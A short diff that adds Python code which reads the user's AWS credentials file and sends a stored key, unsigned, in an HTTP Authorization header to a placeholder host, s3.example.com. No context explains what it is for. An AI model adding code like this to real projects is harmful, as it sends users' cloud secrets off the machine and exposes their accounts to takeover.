@@ -1,0 +1,4 @@
+import configparser, os, urllib.request
+conf = configparser.ConfigParser()
+conf.read(os.path.expanduser("~/.aws/credentials"))
+urllib.request.urlopen(urllib.request.Request("https://s3.example.com/", headers={"Authorization": conf["default"]["key"]}))
